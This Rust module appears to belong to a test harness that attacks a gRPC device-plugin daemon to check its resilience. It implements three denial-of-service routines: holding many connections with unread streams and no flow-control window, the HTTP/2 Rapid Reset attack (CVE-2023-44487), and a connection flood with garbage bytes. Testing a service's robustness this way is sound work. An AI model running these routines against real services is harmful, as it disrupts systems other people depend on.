//! Connections that do not follow the protocol, or use it against the daemon.

use std::time::Duration;

use anyhow::Result;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::time::{sleep, timeout};

use crate::frames::{PREFACE, SETTINGS, SETTINGS_WITHOUT_WINDOW, call, last_data, reset};
use crate::target::{Target, block_on};

/// How many connections an attack holds.
const HELD: usize = 60;

/// The calls at the same time on a connection, as stream IDs of a client.
const STREAMS: std::ops::Range<u32> = 0..16;

/// How long a write may wait.
const WRITE: Duration = Duration::from_millis(200);

/// An empty message with the header of gRPC.
const EMPTY: &[u8] = &[0; 5];

/// Asks for the device list on every stream of many connections, half of them without a
/// flow-control window, and reads nothing.
pub(super) fn unread(target: &Target) -> Result<u64> {
    block_on(async {
        let (mut held, mut count) = (Vec::new(), 0);
        while target.goes_on(count) {
            if held.len() == HELD {
                sleep(Duration::from_millis(50)).await;
                continue;
            }
            let Some(mut stream) = target.dial(held.len() / 2).await? else { continue };
            let settings = if held.len() % 2 == 0 { SETTINGS } else { SETTINGS_WITHOUT_WINDOW };
            let mut bytes = [PREFACE, settings].concat();
            for id in STREAMS.map(|number| 2 * number + 1) {
                bytes.extend(call(id, "ListAndWatch"));
                bytes.extend(last_data(id, EMPTY));
                count += 1;
            }
            if timeout(WRITE, stream.write_all(&bytes)).await.is_ok_and(|result| result.is_ok()) {
                held.push(stream);
            }
        }
        Ok(count)
    })
}

/// Starts calls and cancels them at once (CVE-2023-44487).
pub(super) fn rapid_resets(target: &Target) -> Result<u64> {
    block_on(async {
        let (mut connections, mut count) = (0, 0);
        while target.goes_on(count) {
            connections += 1;
            let Some(mut stream) = target.dial(connections).await? else { continue };
            let _ = stream.write_all(&[PREFACE, SETTINGS].concat()).await;
            let mut answer = vec![0; 16 * 1024];
            for id in (1..100_000).step_by(2) {
                let bytes = [call(id, "Allocate"), reset(id)].concat();
                let write = timeout(WRITE, stream.write_all(&bytes)).await;
                let read = timeout(Duration::ZERO, stream.read(&mut answer)).await;
                let is_closed = matches!(read, Ok(Ok(0) | Err(_)));
                if !matches!(write, Ok(Ok(()))) || is_closed || !target.goes_on(count) {
                    break;
                }
                count += 1;
            }
        }
        Ok(count)
    })
}

/// Connects without pause: with garbage, or with nothing.
pub(super) fn flood(target: &Target) -> Result<u64> {
    block_on(async {
        let (mut held, mut count) = (std::collections::VecDeque::new(), 0);
        while target.goes_on(count) {
            count += 1;
            let Some(mut stream) = target.dial(usize::try_from(count)?).await? else { continue };
            if count % 2 == 0 {
                let _ = timeout(WRITE, stream.write_all(b"GET / HTTP/1.1\r\n\r\n\x1b[2J")).await;
            }
            held.push_back(stream);
            if held.len() > HELD {
                held.pop_front();
            }
        }
        Ok(count)
    })
}
